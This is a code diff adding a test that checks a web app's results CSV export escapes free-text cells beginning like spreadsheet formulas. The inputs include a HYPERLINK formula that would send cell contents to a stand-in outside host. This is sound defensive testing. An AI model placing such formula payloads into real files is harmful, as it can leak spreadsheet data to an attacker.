@@ -123,3 +123,20 @@ def test_results_as_of_any_date_show_the_repetitions_in_force_then(drawn):
     assert "Results of the drawing of lots, updated as of 31 December 2020" in page
     assert f"Replaces {old}" in page and "src=" not in page and "<link" not in page
     assert client.get("/results.csv?as_of=2020-02-31").status_code == 422
+
+
+def test_results_csv_cells_are_inert_when_free_text_starts_like_a_formula(drawn):
+    """A spreadsheet runs a cell that starts with = + - @ (or a tab or carriage return
+    before them) as a formula; such text is written behind a single quote."""
+    app, draw = drawn
+    client = app.test_client()
+    reasons = ['=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\t=1",
+               "\r=1", "plain reason"]
+    for review, reason in zip(draw["reviews"], reasons, strict=False):
+        state, old = review["state_under_review"], review["reviewing_states"][0]
+        assert ask(client, draw, state_under_review=state, replaced=old, requested_by=state,
+                   reason=reason).status_code == 201
+    answer = client.get("/results.csv?as_of=2030-01-01")
+    rows = csv.DictReader(io.StringIO(answer.data.decode(), newline=""))
+    written = {r["reason"] for r in rows}
+    assert written == {"", "plain reason", *("'" + r for r in reasons[:-1])}
